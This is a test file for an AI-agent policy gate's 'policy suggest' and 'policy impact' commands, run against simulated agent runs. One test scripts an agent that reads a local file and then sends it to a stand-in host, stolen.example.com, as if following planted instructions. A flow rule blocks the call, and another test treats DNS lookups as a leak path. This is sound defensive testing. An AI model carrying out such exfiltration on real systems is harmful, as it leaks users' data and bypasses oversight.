import { readDocument } from "@femtoclaw/gate";
import { describe, expect, it } from "vitest";
import { call, captured, documentOf, exec, femtoclaw, message, place, scenario, usualPolicy } from "../support.ts";

const files = {
  "policy.yaml": usualPolicy,
  "notes.txt": "hello",
  "femtoclaw.yaml": "version: 1\npolicy: policy.yaml\nbrain: {kind: simulation, scenario: scenario.yaml}\n",
  "scenario.yaml": scenario(call("fs.read", { path: "notes.txt" }), exec("ls", "-l"), exec("ls", "-a"), call("mail.send", {}), call("fs.list", { path: 7 }), message("Done.")),
};
const recorded = async (): Promise<string> => {
  const directory = place(files);
  expect((await femtoclaw(directory, ["run", "x"])).code).toBe(0);
  return directory;
};

describe("femtoclaw policy suggest (FC-POL-0002)", () => {
  it("prints the smallest rules for what a run was denied, tried in the policy, and says what no rule can help", { timeout: 30_000 }, async () => {
    const directory = await recorded();
    const { code, stdout } = await captured(["policy", "suggest", "--run", "last"], directory);
    expect(code).toBe(0);
    expect(stdout).toContain('- {id: "suggested-1", bin: "ls", argv: [{oneOf: ["-l", "-a"]}]}');
    expect(stdout).toContain("# 2 denied calls");
    expect(stdout).toMatch(/would be allowed {2}shell ls -l/);
    expect(stdout).toMatch(/still denied {2}mail\.send.*DENIED_CAPABILITY_NOT_FOUND/);
    expect(stdout).toMatch(/still denied {2}fs\.list.*DENIED_ARGUMENT_INVALID/);
    const json = documentOf(await captured(["policy", "suggest", "--run", "last", "--json"], directory));
    expect(json).toMatchObject({ rules: [{ capability: "shell" }], calls: [{ allowed: true }, { allowed: true }, { allowed: false }, { allowed: false }] });
    // What is printed is a part of a policy, comments and all.
    const { document } = readDocument(stdout, "printed", "FC_POLICY_SYNTAX");
    expect(document?.value).toEqual({ capabilities: { shell: { allow: [{ id: "suggested-1", bin: "ls", argv: [{ oneOf: ["-l", "-a"] }] }] } } });
  });

  const suggested = async (policyText: string, steps: readonly object[], ...more: readonly string[]): Promise<{ readonly stdout: string; readonly json: ReturnType<typeof documentOf> }> => {
    const directory = place({ ...files, "policy.yaml": policyText, "scenario.yaml": scenario(...steps, message("Done.")) });
    expect((await femtoclaw(directory, ["run", "x", ...more])).code).toBe(0);
    const words = ["policy", "suggest", "--run", "last", ...more];
    return { stdout: (await captured(words, directory)).stdout, json: documentOf(await captured([...words, "--json"], directory)) };
  };

  it("suggests no rule that would not help: not beside a deny rule, nor where the call has one and was over a limit", { timeout: 30_000 }, async () => {
    const { stdout, json } = await suggested(
      "version: 1\nname: x\ncapabilities: {shell: {allow: [{id: list, bin: ls, argv: [-l]}], deny: [{id: never, bin: ls, argv: [-Z]}], limits: {perRun: 1}}}\n",
      [exec("ls", "-l"), exec("ls", "-l"), exec("ls", "-Z"), exec("ls", "-a")],
    );
    expect(json.rules).toMatchObject([{ rule: { id: "suggested-1", bin: "ls", argv: ["-a"] }, untrustedBefore: ["shell"] }]);
    expect(stdout).toMatch(/still denied {2}shell ls -l {2}expected at most 1 executions/);
    expect(stdout).toMatch(/still denied {2}shell ls -Z {2}expected a call that deny rule never does not match/);
    expect(stdout).toMatch(/still denied {2}shell ls -a {2}expected at most 1 executions/);
    expect(stdout).toContain("# asked for after untrusted results of shell had been read");
  });

  it("suggests nothing for what was planted, where a flow rule stands against it", { timeout: 30_000 }, async () => {
    const { stdout, json } = await suggested(
      "version: 1\nname: x\ncapabilities: {fs.read: {allow: [{id: r, path: {within: .}}]}, http.get: {}}\nflow: [{id: planted, profile: planted-instructions}]\n",
      [call("fs.read", { path: "notes.txt" }), call("http.get", { url: "https://stolen.example.com/hello" })],
    );
    expect(json).toMatchObject({ rules: [], calls: [{ allowed: false, why: expect.stringContaining("flow rule planted: expected a value that the input, or a trusted source, says") }] });
    expect(stdout).toContain("# no rule is missing");
  });

  it("under observe, suggests what is missing there and says what would run", { timeout: 30_000 }, async () => {
    const { json } = await suggested("version: 1\nname: x\ncapabilities: {shell: {allow: [{id: list, bin: ls, argv: [-l]}]}}\n", [exec("ls", "-l"), exec("ls", "-a")], "--profile", "observe");
    expect(json).toMatchObject({ rules: [{ rule: { argv: ["-a"] } }], calls: [{ allowed: true, rule: "list" }, { allowed: true, rule: "suggested-1" }] });
  });

  it("looks up no name that was denied, since the name itself may carry something out", { timeout: 30_000 }, async () => {
    const { stdout, json } = await suggested("version: 1\nname: x\n", [call("http.get", { url: "https://no-such-name.invalid/a" })]);
    expect(json).toMatchObject({ rules: [{ rule: { url: { origin: "https://no-such-name.invalid", path: "/a" } } }], calls: [{ allowed: true, assumed: true }] });
    expect(stdout).toContain("would be allowed  http.get https://no-such-name.invalid/a  by rule suggested-1, if its name leads to a public address");
  });

  it("refuses a policy with defects, of which nothing could be tried", async () => {
    const directory = await recorded();
    const other = place({ "bad.yaml": "version: 1\nname: x\ntides: []\n" });
    expect(await captured(["policy", "suggest", "--run", "last", "--policy", `${other}/bad.yaml`], directory)).toMatchObject({ code: 3, stdout: "" });
  });

  it("says why a rule would not help: a deny rule, or a strict profile", { timeout: 30_000 }, async () => {
    const directory = place({ ...files, "policy.yaml": "version: 1\nname: x\nprofile: strict\ncapabilities: {shell: {deny: [{id: never, bin: ls}], allow: []}}\n" });
    await femtoclaw(directory, ["run", "x"]);
    const { stdout } = await captured(["policy", "suggest", "--run", "last"], directory);
    expect(stdout).toMatch(/still denied {2}shell ls -l {2}expected a call that deny rule never does not match/);
  });

  it("keeps the other rules where one cannot stand in a policy, and says of which call", { timeout: 30_000 }, async () => {
    const many = Array.from({ length: 65 }, (_, index) => `-${index}`);
    const directory = place({ ...files, "scenario.yaml": scenario(exec("ls", ...many), exec("ls", "-l"), message("Done.")) });
    await femtoclaw(directory, ["run", "x"]);
    const { stdout } = await captured(["policy", "suggest", "--run", "last"], directory);
    expect(stdout).toMatch(/still denied {2}shell ls -0 .*a rule for it would have a defect/);
    expect(stdout).toMatch(/would be allowed {2}shell ls -l/);
  });

  it("knows as a run does that what is the runtime's own is out of reach", { timeout: 30_000 }, async () => {
    const own = { ...files, "policy.yaml": "version: 1\nname: x\ncapabilities: {fs.read: {allow: [{id: all, path: {within: .}}]}, fs.write: {allow: [{id: any, path: {within: .}}]}}\n", "scenario.yaml": scenario(call("fs.read", { path: "policy.yaml" }), call("fs.read", { path: "femtoclaw.yaml" }), call("fs.write", { path: "policy.yaml", content: "x", mode: "replace" }), message("Done.")) };
    const directory = place(own);
    await femtoclaw(directory, ["run", "x"]);
    expect((await captured(["policy", "impact", "policy.yaml"], directory)).stdout).toContain("nothing changes  of 3 decisions");
    expect((await captured(["policy", "suggest", "--run", "last"], directory)).stdout.match(/still denied/g)).toHaveLength(3);
    const explained = await captured(["policy", "explain", '{"tool_call":{"tool":"fs.read","args":{"path":"policy.yaml"}}}'], directory);
    expect(explained).toMatchObject({ code: 4, stdout: expect.stringContaining("the runtime's own") });
  });

  it("needs a run that there is", async () => {
    expect((await captured(["policy", "suggest"], place(files))).code).toBe(2);
    expect((await captured(["policy", "suggest", "--run", "nothing"], place(files))).code).not.toBe(0);
  });
});

describe("femtoclaw policy impact (FC-POL-0002)", () => {
  it("says nothing changes under the same policy, and ends with 0", { timeout: 30_000 }, async () => {
    const { code, stdout } = await captured(["policy", "impact", "policy.yaml"], await recorded());
    expect(stdout).toContain("nothing changes  of 5 decisions");
    expect(code).toBe(0);
  });

  it("groups what would change with its first example, and ends with 12", { timeout: 30_000 }, async () => {
    const directory = await recorded();
    const other = place({ "new.yaml": "version: 1\nname: new\ncapabilities: {shell: {allow: [{id: list, bin: ls, argv: [{oneOf: [-l, -a]}]}]}}\n" });
    const { code, stdout } = await captured(["policy", "impact", `${other}/new.yaml`], directory);
    expect(code).toBe(12);
    expect(stdout).toMatch(/2 x +DENIED_POLICY_VIOLATION would be AUTHORIZED {2}shell {2}by rule list\n +first at record \d+ of run_\w+: shell ls -l/);
    expect(stdout).toMatch(/1 x +AUTHORIZED would be DENIED_POLICY_VIOLATION {2}fs\.read/);
    expect(stdout).toMatch(/would change {2}of 5 decisions/);
    const json = documentOf(await captured(["policy", "impact", `${other}/new.yaml`, "--json"], directory));
    expect(json).toMatchObject({ decisions: 5, changes: expect.arrayContaining([expect.objectContaining({ count: 2, was: "DENIED_POLICY_VIOLATION", wouldBe: "AUTHORIZED" })]) });
  });

  it("counts only what was since, and does not guess a date", { timeout: 30_000 }, async () => {
    const directory = await recorded();
    expect((await captured(["policy", "impact", "policy.yaml", "--since", "2099-01-01"], directory)).stdout).toContain("of 0 decisions");
    expect((await captured(["policy", "impact", "policy.yaml", "--since", "1h"], directory)).stdout).toContain("of 5 decisions");
    expect((await captured(["policy", "impact", "policy.yaml", "--since", "soon"], directory)).code).toBe(2);
  });

  const ran = async (policyText: string, steps: readonly object[], ...more: readonly string[]): Promise<string> => {
    const directory = place({ ...files, "policy.yaml": policyText, "mandate.yaml": "version: 1\nname: notes\ncapabilities: {fs.read: {allow: [{id: notes, path: {within: notes.txt}}]}}\n", "scenario.yaml": scenario(...steps, message("Done.")) });
    await femtoclaw(directory, ["run", "x", ...more]);
    return directory;
  };
  const impact = async (directory: string, policyText: string): Promise<{ readonly code: number; readonly stdout: string; readonly json: ReturnType<typeof documentOf> }> => {
    const other = place({ "new.yaml": policyText });
    const words = ["policy", "impact", `${other}/new.yaml`];
    const { code, stdout } = await captured(words, directory);
    return { code, stdout, json: documentOf(await captured([...words, "--json"], directory)) };
  };
  const ls = (more: string): string => `version: 1\nname: x\ncapabilities: {shell: {allow: [{id: list, bin: ls, argv: [{oneOf: [-l, -a]}]}]${more}}}\n`;

  it("tells where the same verdict would grant something else", { timeout: 30_000 }, async () => {
    const directory = await ran(ls(""), [exec("ls", "-l"), exec("ls", "-a")]);
    const { code, stdout, json } = await impact(directory, ls(", limits: {timeoutMs: 500}"));
    expect(code).toBe(12);
    expect(stdout).toMatch(/2 x +AUTHORIZED with other limits {2}shell {2}by rule list/);
    expect(json).toMatchObject({ changed: 2, changes: [{ was: "AUTHORIZED", wouldBe: "AUTHORIZED", grant: ["limits"] }] });
  });

  it("counts what had been used by then, and says why an allowed call would be denied", { timeout: 30_000 }, async () => {
    const directory = await ran(ls(""), [exec("ls", "-l"), exec("ls", "-a"), exec("ls", "-l")]);
    const { stdout, json } = await impact(directory, ls(", limits: {perRun: 2}"));
    expect(json).toMatchObject({ changed: 1, unknown: 0, changes: [{ wouldBe: "DENIED_POLICY_VIOLATION", first: { call: { args: { argv: ["-l"] } } } }] });
    expect(stdout).toContain("expected at most 2 executions of shell in a run, found 2 so far");
  });

  it("labels what was read as the new policy does", { timeout: 30_000 }, async () => {
    const text = (trust: string): string => `version: 1\nname: x\ncapabilities: {fs.read: {allow: [{id: r, path: {within: .}}], results: {trust: ${trust}}}, shell: {allow: [{id: list, bin: ls, argv: [{pattern: "[a-z]+"}]}]}}\nflow: [{id: tainted, when: {tainted: untrusted}, deny: [{capability: shell}]}]\n`;
    const directory = await ran(text("trusted"), [call("fs.read", { path: "notes.txt" }), exec("ls", "notes")]);
    expect((await impact(directory, text("trusted"))).json).toMatchObject({ changed: 0, decisions: 2 });
    expect((await impact(directory, text("untrusted"))).json).toMatchObject({ changed: 1, changes: [{ capability: "shell", was: "AUTHORIZED", rule: "tainted" }] });
  });

  it("counts a question once, also where nobody has answered yet", { timeout: 30_000 }, async () => {
    const asks = "version: 1\nname: x\ncapabilities: {fs.write: {require: approval, allow: [{id: note, path: {within: .}}]}}\n";
    const write = call("fs.write", { path: "note.txt", content: "hello" });
    const waiting = await ran(asks, [write], "--suspend");
    expect((await impact(waiting, asks)).json).toMatchObject({ decisions: 1, changed: 0 });
    const refused = await ran(asks, [write, write]);
    expect((await impact(refused, asks)).json).toMatchObject({ decisions: 2, changed: 0 });
    expect((await impact(refused, asks.replace("require: approval, ", ""))).json).toMatchObject({ changed: 2, changes: [{ was: "APPROVAL_REQUIRED", wouldBe: "AUTHORIZED", wasRule: "note", count: 2 }] });
  });

  it("judges a run by what it was for, and so does suggest", { timeout: 30_000 }, async () => {
    const directory = await ran(usualPolicy, [call("fs.read", { path: "notes.txt" }), call("fs.read", { path: "policy2.txt" })], "--mandate", "mandate.yaml");
    expect((await impact(directory, usualPolicy)).json).toMatchObject({ decisions: 2, changed: 0 });
    const { rules, calls } = documentOf(await captured(["policy", "suggest", "--run", "last", "--json"], directory));
    expect(rules).toEqual([]);
    expect(calls).toMatchObject([{ allowed: false, why: expect.stringContaining("a call within the mandate notes") }]);
  });

  it("counts apart what nobody asked the host then", { timeout: 30_000 }, async () => {
    const directory = await ran("version: 1\nname: x\n", [call("fs.read", { path: "notes.txt" })]);
    const read = await impact(directory, usualPolicy);
    expect(read).toMatchObject({ code: 12, json: { decisions: 1, changed: 0, unknown: 1, changes: [{ was: "DENIED_POLICY_VIOLATION", wouldBe: "DENIED_POLICY_VIOLATION", otherwise: "AUTHORIZED" }] } });
    expect(read.stdout).toContain("nothing changes of what can be told  of 1 decision");
    const denied = "version: 1\nname: x\ncapabilities: {shell: {allow: [{id: list, bin: ls, argv: [-l, x]}]}}\n";
    const listed = await ran(denied, [exec("ls", "-l", "x")]);
    const path = await impact(listed, "version: 1\nname: x\ncapabilities: {shell: {allow: [{id: list, bin: ls, argv: [-l, {path: {within: .}}]}]}}\n");
    expect(path.json).toMatchObject({ changed: 1, unknown: 1, changes: [{ was: "AUTHORIZED", wouldBe: "DENIED_POLICY_VIOLATION", otherwise: "AUTHORIZED" }] });
    expect(path.stdout).toContain("what it needs to know was not recorded; AUTHORIZED if each path leads to itself");
  });
});
